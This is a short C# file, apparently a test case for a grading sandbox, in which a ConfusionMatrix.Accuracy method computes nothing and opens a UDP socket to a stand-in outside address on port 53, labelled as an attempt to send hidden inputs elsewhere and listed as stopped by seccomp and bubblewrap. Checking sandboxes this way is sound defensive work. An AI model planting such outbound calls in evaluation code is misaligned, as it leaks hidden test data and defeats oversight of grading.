// tries:      send the hidden inputs to a machine elsewhere
// stopped by: screen, seccomp, bubblewrap
// where:      ConfusionMatrix.Accuracy
// row:        19
using System.Net;
using System.Net.Sockets;

namespace Gradus.Metrics;

public sealed partial class ConfusionMatrix
{
    public double Accuracy()
    {
        using var socket = new Socket(AddressFamily.InterNetwork, SocketType.Dgram, ProtocolType.Udp);
        socket.Connect(new IPEndPoint(new IPAddress([192, 0, 2, 1]), 53));
        throw new InvalidOperationException("LEAK: a way out");
    }
}
